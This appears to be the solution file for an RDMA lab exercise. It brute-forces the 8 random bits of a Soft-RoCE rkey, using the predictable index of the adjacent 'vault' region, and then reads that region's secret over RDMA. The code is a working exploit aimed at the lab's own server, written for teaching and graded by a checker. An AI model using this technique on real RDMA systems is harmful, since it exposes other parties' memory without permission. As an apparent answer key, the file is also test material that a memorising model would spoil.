// Exercise 15 — Find the key: guess a region's rkey.
// The server (exercises/peer/key-server.cpp) gives every client its board's (address, rkey) and
// keeps a 64-byte vault right after the board in memory, registered for REMOTE_READ just before
// it. On Soft-RoCE an rkey is the region's index in the device's pool << 8 | 8 random bits, and
// the pool hands indexes out in sequence: the vault's index is the board's minus one, and only
// its 8 random bits are unknown. Each wrong key is refused with a NAK that kills the connection,
// so each try gets a connection of its own.
// Build and judge: ./rdmalab exercise check 15
#include "exercise.hpp"

#include <array>
#include <string>

constexpr std::uint32_t kBoardBytes = 256;  // the server's layout (its Memory struct)
constexpr std::uint32_t kVaultBytes = 64;

// One RDMA READ of `length` bytes at (address, rkey) into `into`, over c; its completion's
// status, whatever it is (the caller decides what a refusal means).
ibv_wc_status read_remote(exercise::Connection& c, std::uint64_t address, std::uint32_t rkey,
                          std::uint8_t* into, std::uint32_t length) {
    ibv_mr* mr = ibv_reg_mr(c.pd, into, length, IBV_ACCESS_LOCAL_WRITE);
    if (mr == nullptr) exercise::fail("ibv_reg_mr failed");
    ibv_sge sge{reinterpret_cast<std::uintptr_t>(into), length, mr->lkey};
    ibv_send_wr wr{};
    wr.sg_list = &sge;
    wr.num_sge = 1;
    wr.opcode = IBV_WR_RDMA_READ;
    wr.send_flags = IBV_SEND_SIGNALED;
    wr.wr.rdma.remote_addr = address;
    wr.wr.rdma.rkey = rkey;
    ibv_send_wr* bad = nullptr;
    exercise::check(ibv_post_send(c.qp, &wr, &bad), "ibv_post_send(READ)");
    const ibv_wc wc = exercise::wait_for_completion(c.cq);
    ibv_dereg_mr(mr);
    return wc.status;
}

int main(int argc, char** argv) {
    const auto args = exercise::parse_arguments(argc, argv);
    // What any client is given: the board's address and key, in the accept. READ it once.
    exercise::RemoteBuffer board;
    {
        exercise::Connection c = exercise::prepare(args.address, args.port);
        exercise::connect(c);
        board = c.peer_buffer;
        std::array<std::uint8_t, kBoardBytes + 1> text{};
        const ibv_wc_status status =
            read_remote(c, board.address, board.rkey, text.data(), kBoardBytes);
        if (status != IBV_WC_SUCCESS)
            exercise::fail(std::string("the READ of the board failed: ") +
                           ibv_wc_status_str(status));
        std::printf("board at 0x%llx, rkey 0x%08x: \"%s\"\n",
                    static_cast<unsigned long long>(board.address), board.rkey,
                    reinterpret_cast<const char*>(text.data()));
    }
    const std::uint64_t vault_address = board.address + kBoardBytes;  // right after the board
    const std::uint32_t vault_index = (board.rkey >> 8) - 1;          // registered right before
    std::array<std::uint8_t, kVaultBytes> secret{};
    for (std::uint32_t byte = 0; byte <= 0xff; ++byte) {
        // A wrong key ends the connection (both QPs go to the error state): a fresh one per try.
        exercise::Connection c = exercise::prepare(args.address, args.port);
        exercise::connect(c);
        const std::uint32_t rkey = vault_index << 8 | byte;
        const ibv_wc_status status =
            read_remote(c, vault_address, rkey, secret.data(), kVaultBytes);
        if (status == IBV_WC_SUCCESS) {
            std::printf("vault key 0x%08x after %u tries\nsecret ", rkey, byte + 1);
            for (const std::uint8_t b : secret) std::printf("%02x", b);
            std::printf("\n");
            return 0;
        }
        if (status != IBV_WC_REM_ACCESS_ERR)  // anything else is not a wrong key: stop and say
            exercise::fail(std::string("try ") + std::to_string(byte + 1) + " ended in " +
                           ibv_wc_status_str(status) + ", not a remote access error");
    }
    exercise::fail("no key of the vault's index opened it");
}
